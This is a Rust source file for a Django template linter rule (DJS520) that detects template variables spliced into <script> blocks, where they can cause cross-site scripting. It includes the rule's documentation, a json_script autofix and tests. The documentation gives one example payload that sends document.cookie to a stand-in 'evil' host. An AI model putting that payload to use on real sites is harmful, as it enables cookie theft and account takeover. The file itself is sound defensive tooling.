//! DJS520 `template-var-in-script`: `{{ value }}` inside a `<script>` block.

use std::collections::{BTreeMap, HashMap, HashSet};

use crate::analysis::template::TemplateChecker;
use crate::analysis::{Edit, Finding, Fix, Severity};
use crate::rules::templates::{self, Js, Judgement, Place};
use crate::rules::{Family, FixAvailability, Rule};
use crate::syntax::template::lexer::slice;
use crate::syntax::template::{Element, FilterExpression, Token};
use foldhash::fast::FixedState;

pub const RULE: Rule = Rule {
    code: "DJS520",
    name: "template-var-in-script",
    family: Family::Templates,
    severity: Severity::Error,
    fix: FixAvailability::Sometimes,
    summary: "A template variable is inserted into a `<script>` block, where HTML escaping does not protect it.",
    django_checks: &[],
    peers: &["semgrep:var-in-script-tag"],
    docs: r#"
## What it does
Finds `{{ … }}` variables inside `<script>` blocks that run as JavaScript (no `type`, or a
JavaScript type or `module`; not `application/json`, `text/template` and other data types).

Reported: values in code (`var n = {{ n }};`), in template literals (`` `${…}` `` runs even
through `|escapejs`), in quoted strings without `|escapejs`, and values without any escaping
(`|safe`, `{% autoescape off %}`, a template engine configured with `autoescape: False`).

The severity says what is known of the value. djsec reads the views and helpers that render the
template (`render()`, `render_to_string()`, `TemplateResponse`, class-based `template_name` and
`get_context_data()`, …) and what they pass under each name:

- **error**: request data (`request.GET…` in the template, or a view passing request data) in
  code, in a template literal or without escaping;
- **warning**: unknown or stored data in those places, or request data in a quoted string (a
  backslash or a line break can end the string);
- **info**: a value marked safe on purpose (`|safe`, `{% autoescape off %}`) and spliced into
  code (`var config = {{ config_json|safe }};`, JSON built by the server as often as not), when
  djsec cannot trace where it comes from (audit information: check that no user text reaches
  it);
- **hint**: unknown or stored data in a quoted string with HTML escaping on, where only a
  backslash or a line break can end the string early, and request data in such a string when
  more of the string follows the value (`"?sort={{ sort }}&page=2"`): a backslash at the
  value's end then escapes that text, not the closing quote, and a line break only makes a
  syntax error (audit information).

Not reported: `"{{ value|escapejs }}"` inside a quoted string (what `escapejs` is for), literals,
values that cannot hold quotes or code (`|length`, `|date:"Y"`, `|tojson`, `|urlencode`,
`|slugify`, `|yesno`, `|as_js_bool`, `.pk`, `.id`, `forloop.counter`, `csrf_token`), values the
server makes (`{{ url(...) }}` and `{{ static(...) }}` in Jinja2, `settings.*`,
`LANGUAGE_CODE`, form and formset ids, prefixes, field and widget names, ids such as
`{{ tab_id }}`, the translation of a constant string), values every view passes as constants,
escaped data or forms, templates the project only renders as plain text, and variables in
JavaScript comments.

## Why is this bad?
Django's autoescaping is HTML escaping. In a script it does not stop a value from being code:
`var n = {{ n }};` with `n = "0; fetch('//evil/'+document.cookie)"` runs the attacker's code, and
in a string a backslash or a line break (left as is) ends the string early. With `|safe` a
`</script>` in the value ends the script block and starts attacker HTML.

## Example
```django
<script>
  const config = {{ config|safe }};
  const name = "{{ user.name }}";
</script>
```

Use instead (`json_script` outputs the value as JSON in its own, safely escaped
`<script type="application/json">` element):
```django
{{ config|json_script:"config-data" }}
{{ user.name|json_script:"user-name-data" }}
<script>
  const config = JSON.parse(document.getElementById("config-data").textContent);
  const name = JSON.parse(document.getElementById("user-name-data").textContent);
</script>
```

## Fix
Replace the variable (or the quoted string that is exactly the variable) with
`JSON.parse(document.getElementById("ID").textContent)` and insert
`{{ value|json_script:"ID" }}` before the `<script>` tag, with the `|safe`, `|escapejs` and
other escaping filters dropped. Offered when the variable is the whole value in code or the
whole of a quoted string, and the script is not inside `{% for %}` (where the element id would
repeat).

## Fix safety
Unsafe: the JavaScript receives the JSON-decoded value: a string stays a string, but a value
that was spliced in as code (a number, a list written by `|safe`) becomes its JSON equivalent,
and Python objects `json_script` cannot serialise make rendering fail. The element id must be
unique on the page.

## References
- Django: [`json_script`](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script)
- Django: [`escapejs`](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#escapejs)
- OWASP: Cross Site Scripting Prevention Cheat Sheet, rule 3 (JavaScript data values); CWE-79
"#,
};

pub fn check(checker: &mut TemplateChecker) {
    if templates::is_text_template(checker) {
        return;
    }
    let text = checker.source;
    let syntax = checker.syntax;
    // Variables per script element.
    let variables = templates::variables(checker);
    let mut by_script: BTreeMap<usize, Vec<(usize, &FilterExpression)>> = BTreeMap::new();
    for &(index, ref expr) in variables.iter() {
        if expr.base.is_empty() || templates::is_inert(text, expr) {
            continue;
        }
        if let Place::Script { element, js: true } =
            templates::place(checker, syntax.tokens[index].range.start)
        {
            by_script.entry(element).or_default().push((index, expr));
        }
    }
    if by_script.is_empty() {
        return;
    }
    let ids = Ids::collect(checker);
    let macros = templates::imported_macros(checker);
    let engine_off_where = templates::engine_autoescape_off(checker);
    let engine_off = engine_off_where.is_some();
    let mut findings = Vec::new();
    for (element, vars) in by_script {
        let script = &syntax.elements[element];
        let offsets: Vec<usize> = vars
            .iter()
            .map(|(i, _)| syntax.tokens[*i].range.start)
            .collect();
        let skip = templates::django_ranges(checker, script.content.clone());
        let states = templates::js_states(text, script.content.clone(), &skip, &offsets);
        for ((index, expr), state) in vars.into_iter().zip(states) {
            let token = &syntax.tokens[index];
            if matches!(state, Js::LineComment | Js::BlockComment) {
                continue;
            }
            let has_escapejs = expr.has_filter(text, "escapejs");
            let unescaped = engine_off
                || templates::marked_safe(text, expr, false)
                || syntax
                    .autoescape_at(text, token.range.start)
                    .is_some_and(|(_, on)| !on);
            if matches!(state, Js::String(_) | Js::Regex) && has_escapejs && !unescaped {
                continue;
            }
            // Values that cannot end a string or run as code: JavaScript-safe filters (JSON
            // escaping leaves `${` of a template literal as it is).
            if templates::js_safe_filtered(text, expr)
                && (state != Js::Template
                    || expr
                        .filter_names(text)
                        .any(|n| matches!(n, "urlencode" | "slugify" | "as_js_bool")))
            {
                continue;
            }
            // A Jinja2 macro writes template code into the script by design.
            if let Some((callee, _)) = token.content_text(text).split_once('(')
                && macros
                    .iter()
                    .any(|m| callee.trim().split('.').next() == Some(m.as_str()))
            {
                continue;
            }
            let judgement = templates::judge(checker, expr, token.range.start);
            // Values the server makes (`{% url %}`-like calls, settings, form ids and
            // prefixes), unless a view says the name holds request data.
            if !matches!(judgement, Judgement::User(_))
                && templates::is_server_made(text, token.content_text(text), expr)
            {
                continue;
            }
            let (user, why) = match &judgement {
                Judgement::Safe => continue,
                Judgement::User(why) => (true, Some(why.as_str())),
                Judgement::Stored(why) => (false, Some(why.as_str())),
                Judgement::Unknown => (false, None),
            };
            let name = templates::shown(text, expr);
            let in_string = matches!(state, Js::String(_) | Js::Regex);
            let mut message = match state {
                _ if unescaped => format!(
                    "{name} is inserted into a `<script>` without any escaping: a `</script>` or a quote in it takes over the page; pass the value with `json_script`"
                ),
                Js::String(_) | Js::Regex => format!(
                    "{name} is inserted into a JavaScript string: HTML escaping leaves backslashes and line breaks, which can end the string; pass the value with `json_script` (or use `|escapejs`)"
                ),
                Js::Template => format!(
                    "{name} is inserted into a JavaScript template literal: `${{…}}` in it runs as code, even through `|escapejs`; pass the value with `json_script`"
                ),
                Js::Code if has_escapejs => format!(
                    "{name} is inserted into JavaScript code: `|escapejs` only protects a value inside a quoted string; pass the value with `json_script`"
                ),
                _ => format!(
                    "{name} is inserted into JavaScript code: HTML escaping does not stop it from running as code; pass the value with `json_script`"
                ),
            };
            if let Some(why) = why {
                message.push_str(&format!(" ({why})"));
            }
            if let Some(off) = engine_off_where.filter(|_| unescaped) {
                message.push_str(&format!("; {off}"));
            }
            // In a quoted string with HTML escaping on, only a backslash or a line break can
            // end the string early: an audit hint unless the value is known to be user text.
            // Escaped and in code (not a string nor a template literal) with an origin djsec
            // cannot trace: on real projects a number, a boolean or a server-built structure
            // nearly every time, so an audit hint.
            let untraced_code =
                matches!(judgement, Judgement::Unknown) && !unescaped && matches!(state, Js::Code);
            // Marked safe on purpose (`|safe`, `{% autoescape off %}`, not an engine without
            // autoescaping) and spliced into code: a structure built to be code (JSON, a
            // literal), from data djsec cannot trace: audit information.
            let deliberate_untraced_code = matches!(judgement, Judgement::Unknown)
                && unescaped
                && !engine_off
                && matches!(state, Js::Code);
            // HTML-escaped in a quoted string, followed by more of the string: a backslash at
            // its end escapes that text, not the closing quote, and a line break only makes a
            // syntax error, so the value cannot end the string.
            let string_stays_closed = in_string
                && !unescaped
                && match state {
                    Js::String(q) => text
                        .as_bytes()
                        .get(token.range.end)
                        .is_some_and(|&b| b != q && b != b'{' && b != b'\\' && b != b'\n'),
                    _ => false,
                };
            if string_stays_closed && user {
                message.push_str(
                    "; the string goes on after it, so a backslash at its end cannot reach the closing quote and a line break only stops the script: audit information",
                );
            }
            if deliberate_untraced_code {
                message.push_str(
                    " (djsec cannot tell where it comes from: check that no user text reaches it)",
                );
            }
            let severity = match (in_string && !unescaped, user) {
                (true, true) if string_stays_closed => Severity::Hint,
                (true, true) => Severity::Warning,
                (true, false) => Severity::Hint,
                (false, true) => Severity::Error,
                (false, false) if untraced_code => Severity::Hint,
                (false, false) if deliberate_untraced_code => Severity::Info,
                (false, false) => Severity::Warning,
            };
            let fix = json_script_fix(checker, &ids, script, token, expr, state);
            findings.push(
                Finding::new(RULE.code, token.range.clone(), severity, message).with_fix(fix),
            );
        }
    }
    for finding in findings {
        checker.report(finding);
    }
}

/// Filters dropped when a value moves into `json_script` (which does its own escaping).
const ESCAPING: &[&str] = &["safe", "safeseq", "escapejs", "escape", "force_escape"];

fn json_script_fix(
    checker: &TemplateChecker,
    ids: &Ids,
    script: &Element,
    token: &Token,
    expr: &FilterExpression,
    state: Js,
) -> Option<Fix> {
    let text = checker.source;
    let syntax = checker.syntax;
    if syntax.in_loop_at(token.range.start) {
        return None;
    }
    // What to replace: the variable in code, or the quoted string that is exactly the variable.
    let target = match state {
        Js::Code => token.range.clone(),
        Js::String(q) => {
            let before = token.range.start.checked_sub(1)?;
            let bytes = text.as_bytes();
            if bytes.get(before) != Some(&q) || bytes.get(token.range.end) != Some(&q) {
                return None;
            }
            before..token.range.end + 1
        }
        _ => return None,
    };
    let value = value_text(text, expr, expr.filters.len(), ESCAPING);
    let (id, existing) = ids.for_value(expr.base_text(text), &value);
    let mut edits = vec![Edit::replace(
        target,
        format!("JSON.parse(document.getElementById(\"{id}\").textContent)"),
    )];
    if !existing {
        let at = script.start_tag.start;
        let indent = templates::line_indent(text, at);
        let line_start = text
            .get(..at)
            .and_then(|s| s.rfind('\n'))
            .map_or(0, |i| i + 1);
        let own_line = text
            .get(line_start..at)
            .is_some_and(|s| s.chars().all(|c| c == ' ' || c == '\t'));
        let insert = if own_line {
            format!(
                "{{{{ {value}|json_script:\"{id}\" }}}}{}{indent}",
                templates::line_ending(text)
            )
        } else {
            format!("{{{{ {value}|json_script:\"{id}\" }}}}")
        };
        edits.push(Edit::insert(at, insert));
    }
    Some(Fix::unsafe_(
        format!("Pass the value with `json_script` (element id \"{id}\")"),
        edits,
    ))
}

/// `base|filter:arg|…` from the expression's base and its first `count` filters, without the
/// filters named in `drop`.
fn value_text(text: &str, expr: &FilterExpression, count: usize, drop: &[&str]) -> String {
    let mut value = expr.base_text(text).to_string();
    for filter in expr.filters.iter().take(count) {
        let name = slice(text, &filter.name);
        if drop.contains(&name) {
            continue;
        }
        value.push('|');
        value.push_str(name);
        if let Some(arg) = &filter.arg {
            value.push(':');
            value.push_str(slice(text, arg));
        }
    }
    value
}

/// Every short quoted word that could be an id (`"x-data"`, `'main'`): a run of 1 to 101 ASCII
/// letters, digits, `-` and `_` right after a quote and followed by the same quote. Every quote
/// opens a candidate, a closing one too (`'a'b'` holds `a` and `b`).
///
/// `memchr2` jumps from quote to quote: the bytes in between cannot start a word, so this finds
/// what a byte-by-byte scan finds (`quoted_words_reference` in the tests). The set uses
/// foldhash's fast hasher: the words are short and there is one per quoted attribute value.
fn quoted_words(text: &str) -> HashSet<&str, FixedState> {
    let bytes = text.as_bytes();
    let mut quoted = HashSet::default();
    let mut i = 0;
    while let Some(rel) = bytes.get(i..).and_then(|b| memchr::memchr2(b'"', b'\'', b)) {
        let q = bytes[i + rel];
        let start = i + rel + 1;
        let mut j = start;
        while j < bytes.len()
            && j - start <= 100
            && (bytes[j].is_ascii_alphanumeric() || matches!(bytes[j], b'-' | b'_'))
        {
            j += 1;
        }
        // ASCII bytes on both sides: `start..j` is on char boundaries.
        if j > start
            && bytes.get(j) == Some(&q)
            && let Some(word) = text.get(start..j)
        {
            quoted.insert(word);
        }
        i = start;
    }
    quoted
}

/// The element ids a template already uses, collected once per check.
struct Ids<'a> {
    /// See [`quoted_words`].
    quoted: HashSet<&'a str, FixedState>,
    /// `{{ value|json_script:"id" }}` outputs: id → value.
    json_script: HashMap<&'a str, String>,
}

impl<'a> Ids<'a> {
    fn collect(checker: &TemplateChecker<'a>) -> Ids<'a> {
        let text: &'a str = checker.source;
        let mut json_script = HashMap::new();
        // Every output of the template, not only those in the checker's scope: the ids chosen
        // must not clash with any.
        for (_, expr) in checker.all_variables().iter() {
            let Some(at) = expr
                .filters
                .iter()
                .position(|f| slice(text, &f.name) == "json_script")
            else {
                continue;
            };
            let Some(arg) = expr.filters[at].arg.as_ref() else {
                continue;
            };
            let id = slice(text, arg).trim_matches(['"', '\'']);
            json_script.insert(id, value_text(text, expr, at, &[]));
        }
        Ids {
            quoted: quoted_words(text),
            json_script,
        }
    }

    /// An element id for the value: `user.name` gives `user-name-data`. Returns whether the
    /// template already outputs this value under that id (then only the use is replaced); an
    /// id used for something else gets a numeric suffix.
    fn for_value(&self, base: &str, value: &str) -> (String, bool) {
        let mut stem = String::new();
        for c in base.chars() {
            if c.is_ascii_alphanumeric() {
                stem.push(c.to_ascii_lowercase());
            } else if !stem.ends_with('-') && !stem.is_empty() {
                stem.push('-');
            }
        }
        let stem = stem.trim_end_matches('-');
        let stem = if stem.is_empty() { "value" } else { stem };
        let mut n = 1;
        loop {
            let id = if n == 1 {
                format!("{stem}-data")
            } else {
                format!("{stem}-data-{n}")
            };
            if let Some(existing) = self.json_script.get(id.as_str()) {
                if existing == value {
                    return (id, true);
                }
            } else if !self.quoted.contains(id.as_str()) || n > 1000 {
                return (id, false);
            }
            n += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use proptest::prelude::*;

    /// The byte-by-byte scan [`super::quoted_words`] replaced.
    fn quoted_words_reference(text: &str) -> HashSet<&str> {
        let bytes = text.as_bytes();
        let mut quoted = HashSet::new();
        let mut i = 0;
        while i < bytes.len() {
            let q = bytes[i];
            i += 1;
            if q != b'"' && q != b'\'' {
                continue;
            }
            let start = i;
            let mut j = start;
            while j < bytes.len()
                && j - start <= 100
                && (bytes[j].is_ascii_alphanumeric() || matches!(bytes[j], b'-' | b'_'))
            {
                j += 1;
            }
            if j > start && bytes.get(j) == Some(&q) {
                quoted.insert(&text[start..j]);
            }
        }
        quoted
    }

    fn same_quoted_words(text: &str) {
        let new: HashSet<&str> = super::quoted_words(text).into_iter().collect();
        assert_eq!(new, quoted_words_reference(text), "{text:?}");
    }

    #[test]
    fn quoted_words_match_the_byte_scan_exhaustively() {
        // Every string of up to 6 characters over an alphabet with both quotes, word and
        // non-word bytes, and a multi-byte character.
        let alphabet = ['"', '\'', 'a', '-', ' ', 'é'];
        let mut texts = vec![String::new()];
        for _ in 0..6 {
            let mut longer = Vec::new();
            for t in &texts {
                same_quoted_words(t);
                for c in alphabet {
                    let mut n = t.clone();
                    n.push(c);
                    longer.push(n);
                }
            }
            texts = longer;
        }
        for t in &texts {
            same_quoted_words(t);
        }
        // The length limit: 101 word bytes are a word, 102 are not.
        for n in [100, 101, 102, 103] {
            same_quoted_words(&format!("\"{}\" '{}'", "w".repeat(n), "x".repeat(n)));
        }
    }

    proptest! {
        #[test]
        fn quoted_words_match_the_byte_scan(text in "[\"'a-z0-9_ \\-<>=é]{0,200}") {
            same_quoted_words(&text);
        }
    }

    use crate::analysis::testing::{assert_fix_in, codes_at_only, findings_in};
    use crate::syntax::Language;

    fn codes(src: &str) -> Vec<(&'static str, usize, usize, &'static str)> {
        codes_at_only(Language::Template, src, &["DJS520"])
    }

    #[test]
    fn flags_variables_in_scripts() {
        let src = concat!(
            "<script>\n",
            "  var n = {{ n }};\n",
            "  var s = \"{{ user.name }}\";\n",
            "  var e = '{{ x|escape }}';\n",
            "  var t = `hello ${x} {{ name|escapejs }}`;\n",
            "  var c = {{ config|safe }};\n",
            "  var j = {{ n|escapejs }};\n",
            "</script>\n",
            "{% block js %}<script type=\"module\">{% if a %}go({{ a }}){% endif %}</script>{% endblock %}\n",
        );
        assert_eq!(
            codes(src),
            vec![
                ("DJS520", 2, 11, "hint"),
                // In a quoted string with escaping on, only a backslash or a line break can end
                // the string: an audit hint while nothing says the value is user text.
                ("DJS520", 3, 12, "hint"),
                ("DJS520", 4, 12, "hint"),
                ("DJS520", 5, 23, "warning"),
                // Marked safe and spliced into code on purpose, from data djsec cannot
                // trace (a JSON structure as often as not): audit information.
                ("DJS520", 6, 11, "info"),
                ("DJS520", 7, 11, "hint"),
                ("DJS520", 9, 50, "hint"),
            ]
        );
    }

    #[test]
    fn untraced_values_marked_safe_in_code_are_information() {
        let src = concat!(
            "<script>initDateChooser(\"{{ widget.attrs.id|escapejs }}\", {{ widget.config_json|safe }});</script>\n",
            "<script>const t = {{ data_types|default:\"{}\"|safe }};</script>\n",
            "{% autoescape off %}<script>var c = {{ config }};</script>{% endautoescape %}\n",
            // Look-alikes that stay reported: request data, unescaped in a string or a template
            // literal, untraced text in a template literal.
            "<script>var q = {{ request.GET.q|safe }};</script>\n",
            "<script>var s = \"{{ name|safe }}\";</script>\n",
            "<script>var t = `{{ query.name }}`, u = `{{ object.query|escapejs }}`;</script>\n",
        );
        assert_eq!(
            codes(src),
            vec![
                ("DJS520", 1, 59, "info"),
                ("DJS520", 2, 19, "info"),
                ("DJS520", 3, 37, "info"),
                ("DJS520", 4, 17, "error"),
                ("DJS520", 5, 18, "warning"),
                ("DJS520", 6, 18, "warning"),
                ("DJS520", 6, 42, "warning"),
            ]
        );
        let f = findings_in(Language::Template, src);
        assert!(
            f[0].message
                .contains("djsec cannot tell where it comes from"),
            "{}",
            f[0].message
        );
    }

    #[test]
    fn request_data_in_a_string_that_goes_on_after_it_is_a_hint() {
        let src = concat!(
            "<script>\n",
            // The string goes on after the value: a backslash cannot reach the closing quote.
            "  load(\"/replies?sort={{ request.GET.sort }}&last={{ last|date:'U' }}\");\n",
            "  var a = 'x{{ request.GET.a }}y';\n",
            // The value ends the string, or another value follows right after: a warning.
            "  var b = \"{{ request.GET.b }}\";\n",
            "  var c = \"{{ request.GET.c }}{{ request.GET.d }}\", d = \"{{ request.GET.e }}\";\n",
            "</script>\n",
        );
        assert_eq!(
            codes(src),
            vec![
                ("DJS520", 2, 23, "hint"),
                ("DJS520", 3, 13, "hint"),
                ("DJS520", 4, 12, "warning"),
                ("DJS520", 5, 12, "warning"),
                ("DJS520", 5, 31, "warning"),
                ("DJS520", 5, 58, "warning"),
            ]
        );
        let f = findings_in(Language::Template, src);
        assert!(
            f[0].message.contains("audit information"),
            "{}",
            f[0].message
        );
    }

    #[test]
    fn ignores_safe_look_alikes() {
        let src = concat!(
            "<script>\n",
            "  var a = \"{{ name|escapejs }}\", b = '{{ name|escapejs }}';\n",
            "  var c = {{ items|length }}, d = {{ obj.pk }}, e = {{ forloop.counter }};\n",
            "  var f = \"{{ csrf_token }}\", g = {{ 42 }}, h = \"{{ 'lit' }}\";\n",
            "  var i = {{ when|date:\"Y\" }};\n",
            "  // var old = {{ old }};\n",
            "  /* {{ older }} */\n",
            "</script>\n",
            "<script type=\"application/json\">{\"a\": \"{{ a }}\"}</script>\n",
            "<script type=\"text/x-template\"><p>{{ b }}</p></script>\n",
            "<script type=\"application/ld+json\">{{ c }}</script>\n",
            "{{ data|json_script:\"data\" }}\n",
            "<p onclick=\"x\">{{ d }}</p>\n",
            "{% verbatim %}<script>var v = {{ vue }};</script>{% endverbatim %}\n",
        );
        assert_eq!(codes(src), vec![]);
    }

    #[test]
    fn javascript_safe_filters_and_server_made_values() {
        let src = concat!(
            "<script>\n",
            // Filters whose output cannot end a string or run as code.
            "  var a = {{ config|tojson }}, b = \"{{ q|urlencode }}\", c = \"{{ title|slugify }}\";\n",
            "  var d = {{ flag|as_js_bool }}, e = {{ n|length }}, f = \"{{ on|yesno:'a,b' }}\";\n",
            "  var g = `${x} {{ query|urlencode }}`;\n",
            // Values the server makes: URLs, settings, form ids and prefixes, translations.
            "  var h = \"{{ url('home') }}\", i = \"{{ settings.STATIC_URL }}\", j = {{ settings.MAX }};\n",
            "  var k = \"{{ form.prefix }}\", l = \"{{ field.auto_id }}\", m = \"{{ field.field.name }}\";\n",
            "  var n = \"{{ LANGUAGE_CODE }}\", o = {{ request.user.is_authenticated }}, p = \"{{ _('Save') }}\";\n",
            "  var q = {{ obj.get_absolute_url }}, r = {{ loop.index }}, s = {{ True }};\n",
            "  {{ macros.autocomplete_js() }}\n",
            // Filters with constant arguments keep a server value one; constants of context
            // processors; booleans; a Jinja2 call through a JavaScript-safe filter.
            "  var t = `<td>{{ True|render_boolean }}</td>`, u = {{ CSRF_COOKIE_NAME|safe }};\n",
            "  var v = {{ f.max_length|default_if_none:\"50\"|unlocalize }}, w = {{ user.is_staff }};\n",
            "  var x = {{ request.user.can_edit()|as_js_bool }}, y = {{ settings.TAGS|lower|split(\" \")|as_json }};\n",
            "</script>\n",
            "{% import \"macros.html\" as macros %}\n",
        );
        assert_eq!(codes(src), vec![]);
        // Look-alikes that stay reported: a translation with an argument, a user's name, a
        // filter that adds text after a safe one, `escapejs` in a template literal.
        let src = concat!(
            "<script>\n",
            "  var a = \"{{ _('Hi %(n)s', n=user.name) }}\";\n",
            "  var b = {{ user.name }};\n",
            "  var c = {{ n|length|add:x }};\n",
            "  var d = `{{ q|tojson }}`;\n",
            "  var e = \"{{ settings.NAME|default:user.name }}\";\n",
            "</script>\n",
        );
        assert_eq!(
            codes(src),
            vec![
                ("DJS520", 2, 12, "hint"),
                ("DJS520", 3, 11, "hint"),
                ("DJS520", 4, 11, "hint"),
                ("DJS520", 5, 12, "warning"),
                ("DJS520", 6, 12, "hint"),
            ]
        );
    }

    #[test]
    fn unclosed_and_half_typed_scripts() {
        let src = "<script>\n  var a = {{ a }};\n  var b = {{ b";
        assert_eq!(codes(src), vec![("DJS520", 2, 11, "hint")]);
        let src = "<script src=\"x.js\"></script><script>{{";
        assert_eq!(codes(src), vec![]);
    }

    #[test]
    fn fix_moves_the_value_to_json_script() {
        let src = "<div>\n  <script>\n    const config = {{ config|safe }};\n    const name = \"{{ user.name|default:'x' }}\";\n  </script>\n</div>\n";
        let fixed = assert_fix_in(Language::Template, src, "DJS520");
        assert_eq!(
            fixed,
            "<div>\n  {{ config|json_script:\"config-data\" }}\n  {{ user.name|default:'x'|json_script:\"user-name-data\" }}\n  <script>\n    const config = JSON.parse(document.getElementById(\"config-data\").textContent);\n    const name = JSON.parse(document.getElementById(\"user-name-data\").textContent);\n  </script>\n</div>\n"
        );
    }

    #[test]
    fn fix_reuses_an_existing_element_and_avoids_taken_ids() {
        let src = "{{ x|json_script:\"x-data\" }}<script>a({{ x }}); b({{ y }});</script><p id=\"y-data\"></p>";
        let fixed = assert_fix_in(Language::Template, src, "DJS520");
        assert_eq!(
            fixed,
            "{{ x|json_script:\"x-data\" }}{{ y|json_script:\"y-data-2\" }}<script>a(JSON.parse(document.getElementById(\"x-data\").textContent)); b(JSON.parse(document.getElementById(\"y-data-2\").textContent));</script><p id=\"y-data\"></p>"
        );
    }

    #[test]
    fn no_fix_in_loops_or_partial_strings() {
        let src = "{% for i in items %}<script>f({{ i.name }});</script>{% endfor %}<script>var s = \"Hi {{ name }}!\"; var t = `{{ t }}`;</script>";
        let f = findings_in(Language::Template, src);
        let ours: Vec<_> = f.iter().filter(|f| f.code == "DJS520").collect();
        assert_eq!(ours.len(), 3);
        assert!(ours.iter().all(|f| f.fix.is_none()));
    }
}
